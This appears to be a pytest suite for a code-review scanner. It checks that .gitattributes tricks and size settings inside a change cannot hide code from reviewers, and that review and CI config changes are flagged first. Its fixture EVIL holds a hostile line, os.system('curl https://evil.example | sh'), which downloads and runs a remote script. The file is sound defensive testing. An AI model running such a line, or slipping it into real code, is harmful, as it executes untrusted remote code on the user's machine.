"""The change under review cannot hide its own content from the reviewer.

``.gitattributes`` (``-diff``, ``binary``, a ``diff=`` driver with ``binary = true``) decides nothing:
text versus binary is decided by content. Settings that reduce what is shown come from the target
branch, never from the change; changes to ``.signoff/``, ``.gitattributes`` and CI config come first.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from signoff.cli import main
from tests.helpers import commit_files, git, make_repo, write

EVIL = 'x = 1\nimport os\nos.system("curl https://evil.example | sh")\n'


def _scan_json(repo: Path, *argv: str, capsys: pytest.CaptureFixture[str]) -> dict:
    code = main(["-C", str(repo), "scan", *argv, "--format", "json"])
    out = capsys.readouterr()
    assert code == 0, out.err
    return json.loads(out.out)


def _file(doc: dict, path: str) -> dict:
    return next(f for f in doc["files"] if f["path"] == path)


def _triggered(doc: dict) -> set[str]:
    return {q["id"] for q in doc["questions"]["triggered"]}


ATTRIBUTES = {
    "-diff": ("*.py -diff\n", []),
    "binary": ("*.py binary\n", []),
    "driver-binary": ("*.py diff=hide\n", [("diff.hide.binary", "true")]),
    "driver-binary-in-change": ("*.py diff=hide\n", []),
}


@pytest.mark.parametrize("how", sorted(ATTRIBUTES))
def test_attributes_in_the_change_do_not_hide_code(
    tmp_path: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    attrs, config = ATTRIBUTES[how]
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {".gitattributes": attrs, "app.py": EVIL}, "hide it")
    for key, value in config:
        git(repo, "config", key, value)
    doc = _scan_json(repo, "main..topic", capsys=capsys)
    app = _file(doc, "app.py")
    assert app["binary"] is False
    assert app["added"] == 2 and app["hunks"] == 1
    assert "code.command-injection" in _triggered(doc)


def test_attributes_in_the_work_tree_do_not_hide_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    write(repo, {".gitattributes": "* -diff\n", "app.py": EVIL})
    doc = _scan_json(repo, "--worktree", capsys=capsys)
    assert _file(doc, "app.py")["binary"] is False
    assert _file(doc, "app.py")["added"] == 2
    assert "code.command-injection" in _triggered(doc)


def test_real_binary_content_is_still_binary(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"img.bin": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(
        repo,
        {
            ".gitattributes": "*.dat -diff\n",
            "img.bin": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(255, -1, -1)),
            "blob.dat": b"\x00\x01\x02 binary for real\n",
        },
        "binaries",
    )
    doc = _scan_json(repo, "main..topic", capsys=capsys)
    assert _file(doc, "img.bin")["binary"] is True
    assert _file(doc, "blob.dat")["binary"] is True
    assert _file(doc, "img.bin")["hunks"] == 0


def test_attribute_hidden_text_is_part_of_the_patch_hash(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two changes that differ only in the hidden file's content have different patch hashes."""
    hashes = []
    for i, body in enumerate([EVIL, EVIL.replace("evil", "good")]):
        repo = make_repo(tmp_path / f"r{i}")
        commit_files(repo, {"app.py": "x = 1\n"}, "base")
        git(repo, "checkout", "-q", "-b", "topic")
        commit_files(repo, {".gitattributes": "*.py -diff\n", "app.py": body}, "hide it")
        hashes.append(_scan_json(repo, "main..topic", capsys=capsys)["patch_sha256"])
    assert hashes[0] != hashes[1]


# -- settings that reduce what is shown ------------------------------------------------------------------


def test_max_file_bytes_in_the_change_is_ignored(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {".signoff/config.toml": "[diff]\nmax_file_bytes = 1\n", "app.py": EVIL}, "shrink")
    doc = _scan_json(repo, "main..topic", capsys=capsys)
    assert not any(f["too_large"] for f in doc["files"])
    assert "code.command-injection" in _triggered(doc)


def test_max_file_bytes_of_the_target_branch_applies(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The setting still works when it comes from the branch the change targets."""
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n", ".signoff/config.toml": "[diff]\nmax_file_bytes = 5\n"}, "b")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {".signoff/config.toml": "[diff]\nmax_file_bytes = 100000000\n", "app.py": EVIL}, "t")
    doc = _scan_json(repo, "main..topic", capsys=capsys)
    assert _file(doc, "app.py")["too_large"] is True


def test_max_file_bytes_in_the_work_tree_is_ignored_for_worktree_reviews(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    write(repo, {".signoff/config.toml": "[diff]\nmax_file_bytes = 1\n", "app.py": EVIL})
    doc = _scan_json(repo, "--worktree", "--untracked", capsys=capsys)
    assert not any(f["too_large"] for f in doc["files"])


def test_the_flag_still_overrides(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"app.py": "x = 1\n"}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    commit_files(repo, {"app.py": EVIL}, "t")
    doc = _scan_json(repo, "main..topic", "--max-file-size", "5", capsys=capsys)
    assert _file(doc, "app.py")["too_large"] is True


SENSITIVE = [
    ".signoff/config.toml",
    ".signoff/allowed_signers",
    ".signoff/checklists/ours.toml",
    ".gitattributes",
    "src/.gitattributes",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".pre-commit-config.yaml",
]


def test_review_and_ci_config_changes_come_first_and_are_flagged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = make_repo(tmp_path / "repo")
    commit_files(repo, {"a.py": "x = 1\n"}, "base")
    git(repo, "checkout", "-q", "-b", "topic")
    files: dict[str, str | bytes | None] = {p: "x: 1\n" for p in SENSITIVE}
    files.update({"a.py": "x = 2\n", "aaa.py": "y = 1\n", "zzz.txt": "z\n"})
    files[".signoff/config.toml"] = "[review]\n"
    files[".signoff/checklists/ours.toml"] = "# nothing\n"
    commit_files(repo, files, "t")
    doc = _scan_json(repo, "main..topic", "--no-questions", capsys=capsys)
    paths = [f["path"] for f in doc["files"]]
    first = paths[: len(SENSITIVE)]
    assert sorted(first) == sorted(SENSITIVE), paths
    assert all(f["security_config"] is (f["path"] in SENSITIVE) for f in doc["files"])

    code = main(["-C", str(repo), "scan", "main..topic", "--no-questions"])
    text = capsys.readouterr().out
    assert code == 0
    rows = [ln for ln in text.splitlines() if ln[:2] in ("A ", "M ")]
    assert all("security config" in r for r in rows[: len(SENSITIVE)])
    assert not any("security config" in r for r in rows[len(SENSITIVE) :])
    assert "changes review or CI configuration" in text
